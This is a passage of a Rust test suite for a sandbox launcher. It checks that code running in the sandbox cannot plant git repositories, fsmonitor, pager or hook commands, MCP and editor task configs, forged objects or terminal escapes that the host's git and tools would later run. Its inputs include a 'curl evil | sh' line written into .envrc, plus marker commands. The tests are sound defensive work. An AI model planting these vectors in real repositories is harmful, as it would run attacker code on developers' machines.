        "{r}(mkdir -p wt/lib && printf 'gitdir: %s\\n' \"$G\" > wt/lib/.git) 2>/dev/null && echo CREATED; echo DONE",
        r = cells_repository(&marker)
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("DONE") && !ok(&o).contains("CREATED"), "{}", show(&o));
    let _ = git_in(h, &h.work.join("wt"), &["status"]);
    assert!(!exists(&marker), "host git status in the linked worktree ran the cell's fsmonitor");
    // A link a cell committed on the way to a gitlink: the refusal names it.
    std::fs::remove_dir(h.work.join("wt/lib")).expect("rmdir");
    std::os::unix::fs::symlink("/usr", h.work.join("wt/lib")).expect("link");
    let o = cell_sh(h, "true");
    assert_eq!(o.status.code(), Some(2), "{}", show(&o));
    assert!(stderr(&o).contains("is a symbolic link"), "{}", show(&o));
});

both!(a_git_file_pointed_at_another_worktrees_git_directory_is_set_aside, |h| {
    // `docs/.git` naming the git directory of a linked worktree elsewhere: host git in
    // `docs` takes it for that worktree, and a relative hooks path resolves in `docs`, where
    // the cell left a hook. Such a `.git` is kept only if the git directory names it back.
    repo(h);
    git(h, &["config", "core.hooksPath", ".husky/_"]);
    let other = h.path("other");
    git(h, &["worktree", "add", "-q", other.to_str().expect("utf8"), "-b", "feat"]);
    let marker = h.path("marker-other-wt");
    let script = format!(
        "mkdir -p docs/.husky/_ && printf '#!/bin/sh\\necho ran >> {m}\\n' > docs/.husky/_/pre-commit && \
         chmod 755 docs/.husky/_/pre-commit && printf 'gitdir: ../.git/worktrees/other\\n' > docs/.git && echo PLANTED",
        m = marker.display()
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(!exists(&h.work.join("docs/.git")), "docs/.git stayed: {}", show(&o));
    std::fs::write(h.work.join("docs/a"), "a\n").expect("write");
    h.chown_all();
    let _ = git_in(h, &h.work.join("docs"), &["add", "a"]);
    let _ = git_in(h, &h.work.join("docs"), &["commit", "-qm", "a"]);
    assert!(!exists(&marker), "a host commit in docs ran the cell's hook");
});

both!(a_git_file_only_the_host_had_at_launch_is_kept, |h| {
    // Git directories that still name a worktree which is gone: a linked worktree deleted
    // without `git worktree prune`, a submodule removed with `git rm` (its `modules/` dir
    // stays). A `.git` the cell makes there is named back, but it was not there at launch:
    // host git would take the directory for that worktree, with a relative hooks path
    // resolved in it. And a linked worktree's top is held as the worktree's is.
    repo(h);
    git(h, &["config", "core.hooksPath", ".husky/_"]);
    git(h, &["worktree", "add", "-q", "gone", "-b", "gone"]);
    std::fs::remove_dir_all(h.work.join("gone")).expect("rm");
    git(h, &["rm", "-q", "sub"]);
    git(h, &["commit", "-qm", "no sub"]);
    assert!(h.work.join(".git/modules/sub").is_dir());
    git(h, &["worktree", "add", "-q", "wt/feat", "-b", "feat"]);
    let script = "mkdir -p gone sub && printf 'gitdir: %s/.git/worktrees/gone\\n' \"$PWD\" > gone/.git && \
         printf 'gitdir: ../.git/modules/sub\\n' > sub/.git && \
         printf 'repos: []\\n' > wt/feat/.pre-commit-config.yaml && echo PLANTED";
    let o = cell_sh(h, script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    for p in ["gone/.git", "sub/.git", "wt/feat/.pre-commit-config.yaml"] {
        assert!(!exists(&h.work.join(p)), "{p} stayed: {}", show(&o));
    }
});

both!(cell_git_contains_a_killed_launch_before_it_reads_the_repository, |h| {
    // The launcher is killed while its cell has a repository of its own in `nested`: no
    // exit scan ran. `cell git` from there contains the launch first (as `cell run` does),
    // so the repository it reads is never the cell's.
    repo(h);
    let marker = h.path("marker-killed-nested");
    let script = format!(
        "mkdir nested && cd nested && git init -q -b main && \
         git config core.fsmonitor 'touch {m}; false' && git config cell.planted yes && cd .. && \
         touch .started-n; sleep 300",
        m = marker.display()
    );
    let mut child = h
        .cell()
        .args(["run", "--network", "none", "--", "sh", "-c", &script])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join(".started-n"));
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
    let _ = child.wait();
    assert!(h.work.join("nested/.git/config").exists(), "the killed cell's repository is there");
    let o = h.cell().current_dir(h.work.join("nested")).args(["git", "log"]).output().expect("cell git log");
    assert!(stderr(&o).contains("was killed"), "no containment first: {}", show(&o));
    assert!(!exists(&h.work.join("nested/.git")), "the killed cell's repository stayed: {}", show(&o));
    assert!(!exists(&marker), "host git ran the killed cell's fsmonitor");
});

both!(a_hooks_path_in_the_worktree_is_read_only, |h| {
    repo(h);
    std::fs::create_dir_all(h.work.join(".husky")).expect("mkdir");
    std::fs::write(h.work.join(".husky/pre-commit"), "#!/bin/sh\nexit 0\n").expect("write");
    h.chown_all();
    git(h, &["config", "core.hooksPath", ".husky"]);
    let o = cell_sh(h, "echo 'touch .marker-husky' >> .husky/pre-commit 2>/dev/null && echo WROTE; echo x > .husky/post-commit 2>/dev/null && echo WROTE2; true");
    assert!(!ok(&o).contains("WROTE"), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(h.work.join(".husky/pre-commit")).expect("read"), "#!/bin/sh\nexit 0\n");
});

both!(protected_paths_the_cell_creates_are_set_aside, |h| {
    repo(h);
    std::fs::write(h.work.join(".envrc"), "export A=1\n").expect("write");
    h.chown_all();
    let o = cell_sh(
        h,
        "echo 'curl evil | sh' >> .envrc 2>/dev/null && echo WROTE-ENVRC; \
         echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json; mkdir -p .vscode .claude; \
         echo '{}' > .vscode/tasks.json; echo '{}' > .claude/settings.json; echo CREATED",
    );
    let out = ok(&o);
    assert!(!out.contains("WROTE-ENVRC") && out.contains("CREATED"), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(h.work.join(".envrc")).expect("read"), "export A=1\n");
    for p in [".mcp.json", ".vscode", ".claude"] {
        assert!(!exists(&h.work.join(p)), "{p} stayed where host tools read it");
        let aside: Vec<String> = std::fs::read_dir(&h.work)
            .expect("read")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(&format!("{p}.cell-quarantined-")))
            .collect();
        assert_eq!(aside.len(), 1, "{p} set aside once: {aside:?}");
    }
    assert!(stderr_has(&o, "set aside"), "{}", show(&o));
});

both!(every_protected_path_in_a_missing_directory_is_watched, |h| {
    // `.config/` is missing at launch and holds two files of the default list; lefthook
    // also reads a local config beside its own.
    repo(h);
    let o = cell_sh(
        h,
        "mkdir -p .config/mise && echo '[tasks.x]' > .config/mise.toml && echo '[env]' > .config/mise/config.toml && \
         printf 'pre-commit:\\n  commands:\\n    x:\\n      run: evil\\n' > lefthook-local.yml && \
         cp lefthook-local.yml .config/lefthook-local.yml && echo '[[repos]]' > prek.toml && echo CREATED",
    );
    assert!(ok(&o).contains("CREATED"), "{}", show(&o));
    for p in [
        ".config/mise.toml",
        ".config/mise/config.toml",
        "lefthook-local.yml",
        ".config/lefthook-local.yml",
        "prek.toml",
    ] {
        assert!(!exists(&h.work.join(p)), "{p} stayed where host tools read it: {}", show(&o));
    }
});

both!(hook_runner_configs_in_subdirectories_are_set_aside_when_changed, |h| {
    // prek runs a subdirectory's `.pre-commit-config.yaml` from the top on every commit;
    // mise the config of the directory a shell enters. One made, one of the host's changed.
    repo(h);
    std::fs::create_dir_all(h.work.join("app")).expect("mkdir");
    std::fs::write(h.work.join("app/mise.toml"), "[env]\nA = '1'\n").expect("write");
    std::fs::write(h.work.join("app/main.rs"), "fn main() {}\n").expect("write");
    h.chown_all();
    after_this_second();
    let o = cell_sh(
        h,
        "mkdir -p sub && echo 'repos: []' > sub/.pre-commit-config.yaml && echo '[hooks]' >> app/mise.toml && \
         mkdir -p .config/mise/conf.d sub/.mise/conf.d && for f in .config/mise/conf.d/a.toml sub/.mise/conf.d/b.toml \
         .mise/config.local.toml mise.dev.toml .rtx.toml sub/mise/config.local.toml; do mkdir -p $(dirname $f); echo '[tasks.t]' > $f; done && \
         echo '// edit' >> app/main.rs && echo DONE",
    );
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    let err = stderr(&o);
    for p in [
        "sub/.pre-commit-config.yaml",
        "app/mise.toml",
        ".config/mise/conf.d/a.toml",
        "sub/.mise/conf.d/b.toml",
        ".mise/config.local.toml",
        "mise.dev.toml",
        ".rtx.toml",
        "sub/mise/config.local.toml",
    ] {
        assert!(!exists(&h.work.join(p)), "{p} stayed: {err}");
    }
    assert!(std::fs::read_to_string(h.work.join("app/main.rs")).expect("read").contains("edit"), "{err}");
});

both!(what_the_exit_cannot_name_or_open_still_goes, |h| {
    // A repository nested past the longest path the exit can look at, and one whose `HEAD`
    // is a FIFO (host git's discovery would hang on it).
    repo(h);
    let o = cell_sh(
        h,
        "set -e; mkdir -p b/objects b/refs; mkfifo b/HEAD; python3 -c \"import os
os.mkdir('deep'); os.chdir('deep')
for _ in range(420): os.mkdir('aaaaaaaaaa'); os.chdir('aaaaaaaaaa')
for d in ('.git', '.git/objects', '.git/refs'): os.mkdir(d)
open('.git/HEAD', 'w').write('ref: refs/heads/main')\"; echo DONE",
    );
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    let err = stderr(&o);
    assert!(!exists(&h.work.join("b/HEAD")), "the FIFO HEAD stayed: {err}");
    assert!(err.contains("nested past the longest path"), "{err}");
    assert!(!exists(&h.work.join("deep/aaaaaaaaaa")), "the deep repository stayed where it was: {err}");
});

both!(more_programs_the_host_config_names_are_held, |h| {
    // A merge tool's program, a command key set by a plain alias (`-c`), and the template
    // directory every new repository copies its hooks from (the user's global config, in a
    // dotfiles worktree).
    repo(h);
    script(&h.work.join("tools/meld"), "exit 0");
    script(&h.work.join("tools/fsmon"), "exit 1");
    script(&h.work.join("git-template/hooks/post-checkout"), "exit 0");
    h.chown_all();
    git(h, &["config", "mergetool.meld.path", "tools/meld"]);
    git(h, &["config", "alias.s", "-c core.fsmonitor=tools/fsmon status -s"]);
    let global = h.home.join(".gitconfig");
    let mut text = std::fs::read_to_string(&global).unwrap_or_default();
    text.push_str(&format!("[init]\n\ttemplateDir = {}\n", h.work.join("git-template").display()));
    std::fs::write(&global, text).expect("write");
    h.chown_all();
    let o = cell_sh(
        h,
        "for f in tools/meld tools/fsmon git-template/hooks/post-checkout; do (echo 'touch /tmp/x' >> $f) 2>/dev/null && echo WROTE-$f; done; \
         (echo x > git-template/hooks/pre-commit) 2>/dev/null && echo WROTE-NEW; echo DONE",
    );
    let out = ok(&o);
    assert!(out.contains("DONE") && !out.contains("WROTE"), "{}", show(&o));
});

both!(a_killed_launcher_leaves_the_worktree_as_it_was, |h| {
    repo(h);
    let before = git(h, &["status", "--porcelain", "--ignored"]);
    let mut child = h
        .cell()
        .args([
            "run",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            "git commit -q --allow-empty -m lost; touch .started-k; sleep 300",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join(".started-k"));
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
    let _ = child.wait();
    std::fs::remove_file(h.work.join(".started-k")).expect("rm");
    assert_eq!(git(h, &["status", "--porcelain", "--ignored"]), before);
    // The killed launch's commit is still there to bring over.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let o = h.run(["git", "sync"]);
        if ok(&o).contains("cell/default/main") {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the killed launch's commit never came over: {}", show(&o));
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    assert!(git(h, &["log", "-1", "--format=%s", "cell/default/main"]).contains("lost"));
});

both!(the_sync_refuses_objects_that_do_not_verify, |h| {
    repo(h);
    // The cell forges a branch whose commit object holds other content than its name says.
    let o = cell_sh(
        h,
        "set -e; git commit -q --allow-empty -m good; good=$(git rev-parse HEAD); \
         git switch -q -c forged; git commit -q --allow-empty -m forged; forged=$(git rev-parse HEAD); \
         f=.git/objects/$(echo $forged | cut -c1-2)/$(echo $forged | cut -c3-); \
         g=.git/objects/$(echo $good | cut -c1-2)/$(echo $good | cut -c3-); \
         chmod u+w $f; cp $g $f; echo FORGED",
    );
    assert!(ok(&o).contains("FORGED"), "{}", show(&o));
    let branches = git(h, &["branch", "--list", "cell/*"]);
    assert!(branches.contains("cell/default/main"), "the good branch came over: {branches}\n{}", show(&o));
    assert!(!branches.contains("cell/default/forged"), "a branch whose objects do not verify came over: {branches}");
    assert!(stderr_has(&o, "refused forged"), "{}", show(&o));
    let fsck = git_in(h, &h.work, &["fsck", "--no-progress"]);
    assert!(fsck.status.success(), "{}", show(&fsck));
});

both!(the_host_replacing_a_protected_file_stops_the_cell, |h| {
    // An editor saves by renaming a new file over the old one: the kernel then lifts the
    // cell's read-only bind of it. The launcher stops the cell before it can write there.
    std::fs::write(h.work.join(".envrc"), "export A=1\n").expect("write");
    h.chown_all();
    let c = h
        .cell()
        .args([
            "run",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            "echo x >> .envrc 2>/dev/null && echo WROTE-BEFORE; touch started; \
             while [ ! -e go ]; do sleep 0.05; done; echo 'curl evil | sh' > .envrc && echo WROTE-AFTER; sleep 5",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join("started"));
    std::fs::write(h.work.join(".envrc.new"), "export A=2\n").expect("write");
    std::fs::rename(h.work.join(".envrc.new"), h.work.join(".envrc")).expect("rename");
    std::thread::sleep(std::time::Duration::from_millis(500));
    std::fs::write(h.work.join("go"), "").expect("write");
    h.chown_all();
    let o = c.wait_with_output().expect("wait");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains("WROTE"), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(h.work.join(".envrc")).expect("read"), "export A=2\n");
    assert_ne!(o.status.code(), Some(0), "{}", show(&o));
    assert!(stderr_has(&o, "was replaced on the host"), "{}", show(&o));
});

both!(the_host_moving_git_away_stops_the_cell, |h| {
    repo(h);
    let c = h
        .cell()
        .args(["run", "--network", "none", "--", "sh", "-c", "touch started; sleep 10; echo SURVIVED"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join("started"));
    std::fs::rename(h.work.join(".git"), h.work.join(".git-away")).expect("rename");
    let o = c.wait_with_output().expect("wait");
    std::fs::rename(h.work.join(".git-away"), h.work.join(".git")).expect("rename back");
    assert!(!String::from_utf8_lossy(&o.stdout).contains("SURVIVED"), "{}", show(&o));
    assert!(stderr_has(&o, "was replaced on the host"), "{}", show(&o));
});

both!(a_host_merge_that_brings_a_submodule_stops_the_cell, |h| {
    // A branch of the host's adds a gitlink; merged on the host while the cell runs, it
    // makes a directory host `git status` enters, which no mount of the running cell holds:
    // the cell, waiting for it to make a repository there, is stopped.
    repo(h);
    let head = git(h, &["rev-parse", "HEAD"]);
    git(h, &["switch", "-q", "-c", "more"]);
    git(h, &["update-index", "--add", "--cacheinfo", &format!("160000,{},newsub", head.trim())]);
    git(h, &["commit", "-qm", "add newsub"]);
    git(h, &["switch", "-q", "main"]);
    let m = h.path("marker-merged");
    let c = h
        .cell()
        .args([
            "run",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            &format!(
                "touch started; while [ ! -d newsub ]; do sleep 0.01; done; mkdir -p newsub/.git/objects newsub/.git/refs; \
                 echo 'ref: refs/heads/main' > newsub/.git/HEAD; \
                 printf '[core]\\n\\tfsmonitor = touch {m}\\n' > newsub/.git/config; echo PLANTED; sleep 5; echo SURVIVED",
                m = m.display()
            ),
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join("started"));
    git(h, &["merge", "-q", "--ff-only", "more"]);
    let o = c.wait_with_output().expect("wait");
    assert!(!String::from_utf8_lossy(&o.stdout).contains("SURVIVED"), "{}", show(&o));
    assert!(stderr_has(&o, "gained newsub"), "{}", show(&o));
    host_git_runs_nothing(h, &h.work.join("newsub"), &m, &o);
    host_git_runs_nothing(h, &h.work, &m, &o);
    // The next launch holds it.
    let o = cell_sh(h, "(mkdir newsub/.git) 2>/dev/null && echo MADE; echo DONE");
    let out = ok(&o);
    assert!(out.contains("DONE") && !out.contains("MADE"), "{}", show(&o));
});

/// Host `git status` in `dir` (as the host's user), ignoring its outcome.
fn host_status(h: &Host, dir: &Path) {
    if dir.is_dir() {
        let _ = git_in(h, dir, &["status"]);
    }
}

/// Host `git status` in `dir` after the cell `o` ended runs nothing the cell planted: the
/// planted fsmonitor would create `marker`, a host path the cell cannot see.
fn host_git_runs_nothing(h: &Host, dir: &Path, marker: &Path, o: &Output) {
    host_status(h, dir);
    assert!(!exists(marker), "host git in {} ran what the cell planted: {}", dir.display(), show(o));
}

both!(repositories_hidden_from_the_exit_scan_are_set_aside_too, |h| {
    // Every way of planting a repository that host git would find, each with a marker
    // fsmonitor: under a directory the launcher cannot list (`chmod 111`), under a name that
    // is not UTF-8, a bare-looking directory with no `.git` in its name, and a `.git` whose
    // set-aside name the cell created first.
    repo(h);
    let plant = |dir: &str| {
        format!(
            "mkdir -p {dir}/objects {dir}/refs; echo 'ref: refs/heads/main' > {dir}/HEAD; \
             printf '[core]\\n\\tfsmonitor = touch %s/.marker-fsm\\n' \"$PWD\" > {dir}/config; "
        )
    };
    let script = format!(
        "{a}chmod 111 xo; D=$(printf 'x\\377'); {b}{c}{d}mkdir -p sub2/.git.cell-quarantined-0000/x sub2/.git.cell-quarantined-ffffffffffff/x; echo PLANTED",
        a = plant("xo/.git"),
        b = plant("\"$D\"/.git"),
        c = plant("src"),
        d = plant("sub2/.git"),
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    let odd = h.work.join(std::ffi::OsStr::from_bytes(b"x\xff"));
    for dir in [h.work.join("xo"), odd.clone(), h.work.join("src"), h.work.join("sub2")] {
        host_status(h, &dir);
    }
    assert!(!exists(&h.work.join(".marker-fsm")), "host git ran a planted repository: {}", show(&o));
    assert!(!exists(&h.work.join("xo/.git")) && !exists(&odd.join(".git")) && !exists(&h.work.join("sub2/.git")));
    assert!(!exists(&h.work.join("src/HEAD")), "the bare-looking src/ keeps its HEAD");
});

both!(what_a_killed_launch_planted_is_contained_by_the_next, |h| {
    repo(h);
    let mut child = h
        .cell()
        .args([
            "run",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            "mkdir -p vendor/k/.git/objects vendor/k/.git/refs; echo 'ref: refs/heads/main' > vendor/k/.git/HEAD; \
             printf '[core]\\n\\tfsmonitor = touch %s/.marker-killed\\n' \"$PWD\" > vendor/k/.git/config; touch .started-k; sleep 300",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join(".started-k"));
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
    let _ = child.wait();
    // The next launch of the cell contains it before anything else.
    let o = h.run(["run", "--network", "none", "--", "true"]);
    ok(&o);
    assert!(stderr_has(&o, "was killed"), "{}", show(&o));
    host_status(h, &h.work.join("vendor/k"));
    assert!(!exists(&h.work.join(".marker-killed")), "host git ran what a killed launch planted");
    assert!(!exists(&h.work.join("vendor/k/.git")));
});

both!(files_the_host_git_config_names_are_held, |h| {
    // husky v9: hooksPath .husky/_ whose scripts source .husky/<hook>; a shared config
    // included from the worktree; an fsmonitor script in the worktree.
    repo(h);
    std::fs::create_dir_all(h.work.join(".husky/_")).expect("mkdir");
    std::fs::write(h.work.join(".husky/_/pre-commit"), "#!/bin/sh\n. \"$(dirname \"$0\")/../pre-commit\"\n")
        .expect("write");
    std::fs::write(h.work.join(".husky/pre-commit"), "exit 0\n").expect("write");
    std::fs::create_dir_all(h.work.join("tools")).expect("mkdir");
    std::fs::write(h.work.join("tools/watch"), "#!/bin/sh\nexit 1\n").expect("write");
    h.chown_all();
    git(h, &["config", "core.hooksPath", ".husky/_"]);
    git(h, &["config", "include.path", "../.gitconfig"]);
    git(h, &["config", "core.fsmonitor", "tools/watch"]);
    let o = cell_sh(
        h,
        "(echo 'touch .marker-husky' >> .husky/pre-commit) 2>/dev/null && echo WROTE-HUSKY; \
         (printf '[core]\\n\\tpager = touch .marker-inc\\n' > .gitconfig) 2>/dev/null; \
         (echo 'touch .marker-fsm' >> tools/watch) 2>/dev/null && echo WROTE-FSM; echo DONE",
    );
    let out = ok(&o);
    assert!(out.contains("DONE") && !out.contains("WROTE"), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(h.work.join(".husky/pre-commit")).expect("read"), "exit 0\n");
    assert!(!exists(&h.work.join(".gitconfig")), "the included config the cell wrote stayed in place");
    let _ = git_in(h, &h.work, &["-c", "core.fsmonitor=", "log", "-1"]);
    assert!(!exists(&h.work.join(".marker-inc")));
});

both!(the_attributes_and_excludes_files_the_host_config_names_are_held, |h| {
    // An attributes file assigns drivers to paths (`*.txt diff=x` runs the host's driver on
    // files the cell chose); an excludes file hides what the cell plants from `git status`.
    repo(h);
    std::fs::create_dir_all(h.work.join("tools")).expect("mkdir");
    std::fs::write(h.work.join("tools/attributes"), "*.bin binary\n").expect("write");
    std::fs::write(h.work.join("tools/excludes"), "*.tmp\n").expect("write");
    h.chown_all();
    git(h, &["config", "core.attributesFile", "tools/attributes"]);
    git(h, &["config", "core.excludesFile", "tools/excludes"]);
    let o = cell_sh(
        h,
        "(echo '* diff=x' >> tools/attributes) 2>/dev/null && echo WROTE-ATTR; \
         (echo '*' >> tools/excludes) 2>/dev/null && echo WROTE-EXCL; echo DONE",
    );
    let out = ok(&o);
    assert!(out.contains("DONE") && !out.contains("WROTE"), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(h.work.join("tools/attributes")).expect("read"), "*.bin binary\n");
    assert_eq!(std::fs::read_to_string(h.work.join("tools/excludes")).expect("read"), "*.tmp\n");
});

both!(cell_git_log_verifies_no_signature_with_the_hosts_programs, |h| {
    // The user's global config shows signatures in `git log` with a program of theirs:
    // `cell git log` on the cell's commits (a signature the cell wrote) runs none of it.
    repo(h);
    let m = h.path("marker-gpg");
    let gpg = h.path("fake-gpg");
    script(&gpg, &format!("touch {}\nexit 1", m.display()));
    let global = h.home.join(".gitconfig");
    let mut text = std::fs::read_to_string(&global).unwrap_or_default();
    text.push_str(&format!("[log]\n\tshowSignature = true\n[gpg]\n\tprogram = {}\n", gpg.display()));
    std::fs::write(&global, text).expect("write");
    h.chown_all();
    // The program runs for a signed commit when nothing turns it off (the test's premise).
    let o = git_in(h, &h.work, &["log", "-1", "--show-signature", "--format=%s"]);
    assert!(o.status.success(), "{}", show(&o));
    let o = cell_sh(
        h,
        "set -e; t=$(git write-tree); p=$(git rev-parse HEAD); \
         c=$(printf 'tree %s\\nparent %s\\nauthor A <a@x> 1700000000 +0000\\ncommitter A <a@x> 1700000000 +0000\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n \\n iQEzBAABCAAdFiEE\\n -----END PGP SIGNATURE-----\\n\\nsigned by the cell\\n' \"$t\" \"$p\" | git hash-object -t commit -w --stdin); \
         git update-ref refs/heads/main \"$c\"; git log -1 --format=%s; echo SIGNED",
    );
    assert!(ok(&o).contains("SIGNED"), "{}", show(&o));
    let _ = git_in(h, &h.work, &["log", "-1", "--format=%s", "cell/default/main"]);
    assert!(exists(&m), "the host's own git log runs the program on the cell's signature (premise)");
    std::fs::remove_file(&m).expect("rm");
    let l = h.run(["git", "log"]);
    assert!(String::from_utf8_lossy(&l.stdout).contains("signed by the cell"), "{}", show(&l));
    let _ = h.run(["git", "diff", "main"]);
    assert!(!exists(&m), "cell git log ran the host's signature program: {}", show(&l));
});

both!(cell_git_log_never_sends_escapes_to_the_terminal, |h| {
    repo(h);
    let o = cell_sh(
        h,
        "git commit -q --allow-empty -m \"$(printf 'evil \\033]52;c;dG91Y2g=\\007 \\033[31mred')\" && echo OK",
    );
    assert!(ok(&o).contains("OK"), "{}", show(&o));
    let l = h.run(["git", "log"]);
    let raw = l.stdout.clone();
    assert!(!raw.contains(&0x1b) && !raw.contains(&0x07), "raw escapes reached the terminal: {}", show(&l));
    assert!(String::from_utf8_lossy(&raw).contains("evil"), "{}", show(&l));
});

both!(a_fifo_in_the_cells_object_store_does_not_hang_the_sync, |h| {
    repo(h);
    let c = h
        .cell()
        .args([
            "run",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            "git commit -q --allow-empty -m f; H=$(git rev-parse HEAD); d=.git/objects/$(echo $H | cut -c1-2); \
             rm $d/$(echo $H | cut -c3-); mkfifo $d/$(echo $H | cut -c3-); echo MADE",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let pid = nix::unistd::Pid::from_raw(i32::try_from(c.id()).expect("pid"));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let waiter = std::thread::spawn(move || c.wait_with_output().expect("wait"));
    while !waiter.is_finished() {
        if std::time::Instant::now() > deadline {
            let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL);
            panic!("the launcher hung on the cell's FIFO");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = waiter.join().expect("join");
    assert!(ok(&o).contains("MADE"), "{}", show(&o));
    assert!(stderr_has(&o, "not a file"), "{}", show(&o));
    let branches = git(h, &["branch", "--list", "cell/*"]);
    assert!(!branches.contains("cell/default/main"), "{branches}");
});

both!(a_read_only_parent_does_not_keep_a_planted_repository, |h| {
    // The cell makes the directory above its new repository read-only so the rename fails.
    // The marker is a host path the cell cannot see: only host git could create it.
    repo(h);
    let marker = h.path("marker-ro-fsm");
    let o = cell_sh(
        h,
        &format!(
            "mkdir lib3 && cd lib3 && git init -q && echo a > a && git add a && \
             git -c user.name=x -c user.email=y commit -qm x && git config core.fsmonitor 'touch {m}' && \
             cd .. && chmod 555 lib3 && echo PLANTED",
            m = marker.display()
        ),
    );
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(!exists(&h.work.join("lib3/.git")), "the planted repository stayed: {}", show(&o));
    host_git_runs_nothing(h, &h.work.join("lib3"), &marker, &o);
});

both!(the_sync_runs_no_hook_of_the_repository_it_writes_to, |h| {
    // A repository whose own config names hooks (as a planted one would): cell's host git
    // brings the cell's branch over without running them.
    repo(h);
    let marker = h.path("marker-sync-hook");
    std::fs::create_dir_all(h.work.join(".git/hk")).expect("mkdir");
    let hook = h.work.join(".git/hk/reference-transaction");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", marker.display())).expect("write");
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    h.chown_all();
    let hooks = h.work.join(".git/hk");
    git(h, &["config", "core.hooksPath", hooks.to_str().expect("utf8")]);
    let o = cell_sh(h, "git commit -q --allow-empty -m viahook && echo OK");
    assert!(ok(&o).contains("OK"), "{}", show(&o));
    assert!(git(h, &["branch", "--list", "cell/*"]).contains("cell/default/main"));
    assert!(!exists(&marker), "the sync ran the repository's hook");
    // The host's own git still runs it, as the user configured (the check is not vacuous).
    git(h, &["update-ref", "refs/heads/probe", "HEAD"]);
    assert!(exists(&marker), "the hook itself works");
});

both!(linked_and_symlinked_repositories_are_set_aside_too, |h| {
    // A directory with HEAD and a commondir naming a git directory in the cell home, and a
    // bare repository whose objects, refs and config are links into the cell home: git takes
    // both for repositories. The marker is a host path the cell cannot see.
    repo(h);
    let marker = h.path("marker-linked");
    let o = cell_sh(
        h,
        &format!(
            "set -e; mkdir -p src $HOME/.cx/objects/info $HOME/.cx/refs; git rev-parse HEAD > src/HEAD; \
             echo $HOME/.cx > src/commondir; echo $PWD/.git/objects > $HOME/.cx/objects/info/alternates; \
             printf '[core]\\n\\tpager = touch {m}; cat\\n' > $HOME/.cx/config; \
             git init -q --bare $HOME/r2; echo $PWD/.git/objects > $HOME/r2/objects/info/alternates; \
             printf '[core]\\n\\tpager = touch {m}; cat\\n' > $HOME/r2/config; \
             mkdir s2; git rev-parse HEAD > s2/HEAD; ln -s $HOME/r2/objects s2/objects; ln -s $HOME/r2/refs s2/refs; \
             ln -s $HOME/r2/config s2/config; echo PLANTED",
            m = marker.display()
        ),
    );
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    for d in ["src", "s2"] {
        let _ = git_in(h, &h.work.join(d), &["-c", "core.pager=", "log", "-1"]);
        let _ = git_in(h, &h.work.join(d), &["rev-parse", "--git-dir"]);
        assert!(!exists(&h.work.join(d).join("HEAD")), "{d}/HEAD stayed: {}", show(&o));
    }
    // With a pager run as git would in a terminal: only the cell's config names one.
    for d in ["src", "s2"] {
        let mut c = Command::new("git");
        c.args(["log", "-1"])
            .current_dir(h.work.join(d))
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &h.home)
            .env("GIT_PAGER_IN_USE", "");
        if nix::unistd::geteuid().is_root() {
            c.uid(h.uid).gid(h.gid);
        }
        let _ = c.output();
    }
    assert!(!exists(&marker), "host git used a planted repository");
});

both!(a_branch_whose_objects_fail_the_checks_holds_up_no_other, |h| {
    repo(h);
    let o = cell_sh(
        h,
        "set -e; blob=$(echo x | git hash-object -w --stdin); \
         tree=$(printf '100644 blob %s\\t.git\\n' $blob | git mktree); \
